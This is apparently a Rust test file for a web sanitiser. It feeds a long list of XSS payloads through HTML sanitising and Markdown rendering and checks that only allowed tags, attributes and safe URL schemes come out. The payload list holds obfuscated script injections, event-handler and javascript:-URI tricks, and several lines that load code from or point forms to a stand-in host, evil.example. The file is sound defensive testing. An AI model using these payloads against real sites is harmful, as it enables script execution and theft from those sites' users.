// SPDX-License-Identifier: AGPL-3.0-or-later
//! Attacks on whoever reads: every payload, as HTML and as Markdown, in bodies, link targets and titles.

use super::{
    elements::allowed,
    html::{self, Html},
    markdown,
    mentions::Links,
    tokens::{Token, decode, tokens},
};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://h.example/x.png onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"https://h.example/x\"onerror=\"alert(1)\">",
    "<img src=javascript:alert(1)>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p title='</p><script>alert(1)</script>'>",
    "<abbr title=\"&quot;><img src=x onerror=alert(1)>\">x</abbr>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><img alt=\"</xmp><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&Tab;:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"https://h.example/\" onclick=alert(1)>x</a>",
    "<a href=\"https://h.example/\"onmouseover=\"alert(1)\">x</a>",
    "<a href='https://h.example/\"onmouseover=\"alert(1)'>x</a>",
    "<a href=\"https://h.example/\" style=\"position:fixed;inset:0\" class=\"x\" id=\"csrf\" target=_blank>x</a>",
    "<a href=\"https://h.example/\" ping=//evil.example rel=opener>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<b/onclick=alert(1)>x</b>",
    "<b\u{c}onclick=alert(1)>x</b>",
    "<x onclick=alert(1)>x</x><custom-element onclick=alert(1)>",
    "<p>\u{202E}<script\u{202E}>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "</p></div></body><script>alert(1)</script>",
    "<img src=https://h.example/e.png alt=\":emo'ji&quot; onerror=alert(1) x=&quot;:\" title='\"><script>alert(1)</script>'>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) \"t\")",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:a)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://h.example/\"onerror=\"alert(1))",
    "![\"onerror=\"alert(1)](https://h.example/x.png \"\\\" onerror=alert(1) x=\\\"\")",
    "![](https://h.example/e.png 'emoji \" onload=alert(1) ')",
    "[x](https://h.example/\"onclick=\"alert(1) 'a\"onclick=\"alert(1)')",
    "[<script>alert(1)</script>](https://h.example)",
    "`<script>alert(1)</script>`",
    "```\"onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "::: spoiler <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n:::",
    "::: spoiler \"></summary></details><script>alert(1)</script>\nx\n:::",
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script> {#id onclick=alert(1)}",
    "https://h.example/\"onmouseover=\"alert(1)",
    "https://h.example/<script>alert(1)</script>",
    "www.h.example/'onclick='alert(1)",
    "@<script>@h.example @a@h.example\"onclick=alert(1)",
];

/// Every tag of the output is an allowed one with allowed attributes and addresses, and sanitising again changes
/// nothing.
fn assert_harmless(payload: &str, html: &Html) {
    for token in tokens(html.as_str()) {
        match token {
            Token::Text(_) => {}
            Token::Close(name) => assert!(allowed(&name).is_some(), "{payload:?} gives </{name}>"),
            Token::Open(name, attributes) => {
                let element = allowed(&name).unwrap_or_else(|| panic!("{payload:?} gives <{name}>"));
                for (key, value) in &attributes {
                    assert_attribute(payload, key, value, element.attributes);
                }
                let rel = attributes
                    .iter()
                    .find(|(key, _)| key == "rel")
                    .map(|(_, value)| *value);
                assert!(
                    name != "a" || rel == Some("nofollow noopener ugc"),
                    "{payload:?} gives {html}"
                );
            }
        }
    }
    assert_eq!(
        html::safe(html.as_str(), None),
        *html,
        "{payload:?} is not stable"
    );
    let hidden = |c: char| c == '\0' || ('\u{202A}'..='\u{202E}').contains(&c);
    assert!(!html.as_str().contains(hidden), "{payload:?} keeps controls");
}

fn assert_attribute(payload: &str, key: &str, value: &str, allowed: &[&str]) {
    assert!(
        key == "rel" || allowed.contains(&key),
        "{payload:?} gives {key}={value}"
    );
    if matches!(key, "href" | "src") {
        let value = decode(value).to_lowercase();
        let sound = ["http://", "https://", "mailto:"]
            .iter()
            .any(|scheme| value.starts_with(scheme));
        assert!(sound, "{payload:?} gives {key}={value}");
    }
}

fn check(payload: &str) {
    assert_harmless(payload, &html::sanitise(payload, 10_000).unwrap());
    assert_harmless(
        payload,
        &markdown::render(payload, "https://ours.example", &Links::new()),
    );
}

#[test]
fn nothing_harmful_comes_through() {
    assert!(PAYLOADS.len() >= 40);
    for payload in PAYLOADS {
        check(payload);
        check(&format!("<p>{payload}</p>"));
        check(&format!(
            "<a href=\"{payload}\">x</a><img alt='{payload}' src='{payload}'>"
        ));
        check(&format!("<table><tr><b>{payload}"));
        check(&format!("> - *{payload}*"));
        check(&format!(
            "[x]({payload}) ![{payload}](https://h.example/x.png \"{payload}\")"
        ));
    }
}

#[test]
fn the_way_through_markdown_and_back_is_harmless() {
    for payload in PAYLOADS {
        let source = html::to_markdown(&html::sanitise(payload, 10_000).unwrap());
        assert_harmless(
            payload,
            &markdown::render(&source, "https://ours.example", &Links::new()),
        );
    }
}

#[test]
fn no_script_word_is_left_in_markup() {
    // An independent look that does not use our own cutter: no `<` may begin anything but a known tag.
    for payload in PAYLOADS {
        for html in [
            html::sanitise(payload, 10_000).unwrap(),
            markdown::render(payload, "", &Links::new()),
        ] {
            for part in html.as_str().split('<').skip(1) {
                let name = part
                    .trim_start_matches('/')
                    .split(|c: char| !c.is_ascii_alphanumeric())
                    .next();
                assert!(name.and_then(allowed).is_some(), "{payload:?} gives {html}");
                let tag = part.split('>').next().unwrap_or(part).to_lowercase();
                assert!(
                    !tag.contains("javascript:") && !tag.contains(" style=") && !tag.contains(" id="),
                    "{html}"
                );
            }
        }
    }
}
